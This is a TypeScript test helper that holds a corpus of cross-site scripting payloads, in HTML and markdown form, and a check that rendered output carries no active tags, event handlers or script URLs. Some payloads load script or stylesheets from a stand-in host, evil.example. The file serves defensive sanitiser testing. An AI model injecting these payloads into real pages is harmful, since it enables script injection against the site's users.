/**
 * The XSS corpus every rendering and saving path of user text is tested with, and the check that
 * rendered HTML is inert.
 */
import { expect } from "vitest";

/** Payloads from common XSS cheat sheets, in HTML and in markdown syntax. */
export const XSS_CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe src="https://example.com"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)">x</details>',
  '<body onload="alert(1)">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror="alert(1)"></audio>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p onmouseover="alert(1)">hover</p>',
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](javascript:alert(1))",
  "[ref][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
];

/** Rendered HTML holds no active tag, handler, script URL, srcdoc or style URL. */
export function expectInert(rendered: string): void {
  const html = rendered.toLowerCase();
  for (const tag of [
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<svg",
    "<math",
    "<input",
    "<body",
  ])
    expect(html, tag).not.toContain(tag);
  // Escaped text may mention anything; real tags may carry no handler, script URL or srcdoc.
  for (const tag of html.match(/<[a-z][^>]*>/g) ?? []) {
    expect(tag).not.toMatch(/\son[a-z]+\s*=/);
    expect(tag).not.toMatch(/(href|src|action|data)\s*=\s*["']?\s*(javascript|vbscript|data):/);
    expect(tag).not.toContain("srcdoc");
    expect(tag).not.toMatch(/style="[^"]*url\(/);
  }
}
